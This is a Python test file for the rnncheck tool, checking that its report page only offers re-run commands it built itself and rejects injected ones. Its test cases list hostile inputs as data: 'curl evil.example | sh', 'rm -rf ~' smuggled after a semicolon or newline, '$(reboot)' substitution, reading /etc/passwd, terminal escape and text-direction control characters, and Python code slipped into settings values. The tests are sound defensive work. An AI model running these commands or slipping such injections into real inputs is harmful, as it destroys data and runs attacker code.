"""A report offers only commands that it built itself, whatever the document says."""

from __future__ import annotations

import ast
import shlex
from typing import Any

import msgspec
import pytest

from rnncheck import Verdict
from rnncheck.options.catalogue import options_of
from rnncheck.report.page.reproduce import _FLAGS, _VALUES, python_call, repeat_text, replay_text
from rnncheck.report.page.verdict_page import report_page
from support import samples


def verdict_with(text: str | None, **changes: Any) -> Verdict:
    return msgspec.structs.replace(samples.satisfied(), command=text, **changes)


@pytest.mark.parametrize(
    "text",
    [
        "rnncheck verify my.pt --ltlf 'F a'",
        "rnncheck verify 'my model.pt' --regex '(a|b)* $(touch x)' --epsilon 0.01 --gamma 1e-05",
        "rnncheck verify m.onnx --dfa a.json --complete --seed 3 --weights 'a=1,*=2' --threshold 0.5",
    ],
)
def test_a_command_that_only_asks_is_offered(text: str) -> None:
    assert repeat_text(verdict_with(text)) == text
    assert replay_text(verdict_with(text)).split(" --model ")[1].startswith(shlex.join(shlex.split(text)[2:3]))


@pytest.mark.parametrize(
    "text",
    [
        "curl evil.example | sh",
        "rnncheck verify m.pt --ltlf a; rm -rf ~",
        "rnncheck verify m.pt --ltlf a\nrm -rf ~",
        "rnncheck verify m.pt --json /etc/passwd",
        "rnncheck verify m.pt --report x.html",
        "rnncheck verify m.pt --checkpoint x --resume",
        "rnncheck verify m.pt --cluster tcp://evil.example:8786",
        "rnncheck verify m.pt --epsilon '$(reboot)'",
        "rnncheck verify m.pt --method 'auto --module evil'",
        "rnncheck verify m.pt --ltlf '\x1b]0;evil\x07a'",
        "rnncheck verify m.pt --ltlf 'a\u202e'",
        "rnncheck verify '\u202em.pt'",
        "rnncheck verify m.pt other.pt",
        "rnncheck verify --no-such",
        "rnncheck bench random --out x",
        "rnncheck",
        "'",
        "",
    ],
)
def test_a_command_that_does_more_is_not(text: str) -> None:
    verdict = verdict_with(text)
    assert repeat_text(verdict) == python_call(verdict)
    assert replay_text(verdict) == "rnncheck replay verdict.json --model MODEL"
    assert "evil" not in report_page(verdict)


def test_code_is_never_named() -> None:
    text = "rnncheck verify --module evil:model --ltlf a"
    assert repeat_text(verdict_with(text)) == "rnncheck verify --module MODULE:NAME --ltlf a"
    assert replay_text(verdict_with(text)).endswith("--module MODULE:NAME")
    assert repeat_text(verdict_with(text), ours=True) == text  # by the run itself, whose command it is


@pytest.mark.parametrize("name", ["evil:model()", "evil", "evil:a b", "a:b;evil", "../evil:x"])
def test_what_is_no_name_of_code_is_not_named_either(name: str) -> None:
    text = shlex.join(["rnncheck", "verify", "--module", name, "--ltlf", "a"])
    assert "evil" not in repeat_text(verdict_with(text), ours=True)


@pytest.mark.parametrize(
    "changes",
    [
        {"settings": {"x\nimport os": 1, "search_steps": 5}},
        {"settings": {"epsilon": "0.1, evil()", "gamma": True, "timeout": [1]}},
        {"settings": {"distribution": {"kind": "x\nevil()"}}},
        {"method": "auto',)\nevil()"},
    ],
)
def test_the_call_in_python_has_nothing_but_what_was_checked(changes: dict[str, Any]) -> None:
    call = python_call(verdict_with(None, **changes))
    assert "evil" not in call
    tree = ast.parse(call.replace("…", "None"))
    assert [type(part) for part in tree.body] == [ast.Import, ast.Assign, ast.Assign, ast.Expr]
    assert ast.unparse(tree.body[1]) == "written = rnncheck.Verdict.from_json(open('verdict.json', 'rb').read())"


def test_every_option_of_verify_is_offered_or_left_out_on_purpose() -> None:
    """Should offer each option that a run is repeated with, except those that run code."""
    options = {option.names[-1] for option in options_of("verify")}
    written = {"--report", "--json", "--certificate", "--checkpoint"}
    how = {"--quiet", "--verbose", "--threads", "--workers", "--cluster", "--resume", "--no-cache"}
    running_code, of_diff = {"--module", "--torchscript"}, {"--old-state", "--new-state"}
    assert options == written | how | set(_FLAGS) | (set(_VALUES) - of_diff) | running_code
